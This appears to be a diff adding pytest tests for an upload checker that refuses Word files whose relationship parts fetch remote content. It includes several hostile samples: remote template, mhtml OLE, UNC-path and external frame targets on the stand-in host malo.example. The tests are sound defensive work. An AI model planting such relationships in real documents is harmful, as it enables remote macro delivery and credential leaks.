@@ -228,6 +228,62 @@ def test_names(given_name, kept) -> None:
     assert safe_name(given_name) == kept
 
 
+def related(kind: str, target: str, *, mode: str = "External", codec: str = "utf-8") -> bytes:
+    """Return a part of relationships with one of that kind."""
+    of = "http://schemas.openxmlformats.org"
+    return (
+        f'<?xml version="1.0" encoding="{codec}"?>'
+        f'<Relationships xmlns="{of}/package/2006/relationships"><Relationship Id="r1" '
+        f'Type="{of}/officeDocument/2006/relationships/{kind}" Target="{target}" TargetMode="{mode}"/>'
+        "</Relationships>"
+    ).encode(codec)
+
+
+RELATIONS = "word/_rels/settings.xml.rels"
+FETCHING = [
+    related("attachedTemplate", "http://malo.example/x.dotm"),
+    related("attachedTemplate", "&#104;ttps://malo.example/x", codec="utf-16"),
+    related("attachedTemplate", r"\\malo.example\x\y.dotm"),
+    related("attachedTemplate", "file:////malo.example/x/y.dotm"),
+    related("oleObject", "mhtml:http://malo.example/x!x-usc:http://malo.example/y"),
+    related("frame", "https://malo.example/", mode="external"),
+    related("aFChunk", "ftp://malo.example/x"),
+]
+HARMLESS = [
+    related("attachedTemplate", "file:///C:\\Users\\ana\\Plantillas\\Carta.dotx"),
+    related("attachedTemplate", "Normal.dotm"),
+    related("hyperlink", "https://ejemplo.org/"),
+    related("image", "https://ejemplo.org/logo.png"),
+    related("oleObject", "embeddings/oleObject1.bin", mode="Internal"),
+]
+
+
+@pytest.mark.parametrize("relations", FETCHING)
+@pytest.mark.parametrize("inside", [False, True])
+def test_an_office_file_that_opens_something_elsewhere_is_refused(relations, inside) -> None:
+    content = docx(**{RELATIONS: relations})
+    if inside:
+        content = docx(**{"word/embeddings/carta.docx": content})
+    with pytest.raises(Refused) as refused:
+        check_uploads([SimpleUploadedFile("a.docx", content)])
+    assert refused.value.code == Code.FETCHES
+    assert "Guárdelo como PDF" in sentence(refused.value.context["problems"][0])
+
+
+@pytest.mark.parametrize("relations", HARMLESS)
+def test_links_pictures_and_templates_of_ones_own_machine_are_taken(relations) -> None:
+    content = docx(**{RELATIONS: relations})
+    assert check_uploads([SimpleUploadedFile("a.docx", content)])
+
+
+@pytest.mark.parametrize("relations", [b"<r", b'<!DOCTYPE r [<!ENTITY a "b">]><r/>', b""])
+def test_relations_that_are_none_are_refused(relations) -> None:
+    content = docx(**{RELATIONS: relations})
+    with pytest.raises(Refused) as refused:
+        check_uploads([SimpleUploadedFile("a.docx", content)])
+    assert refused.value.code == Code.DAMAGED
+
+
 @given(st.text())
 def test_any_name_becomes_safe_and_stays_so(name) -> None:
     kept = safe_name(name)
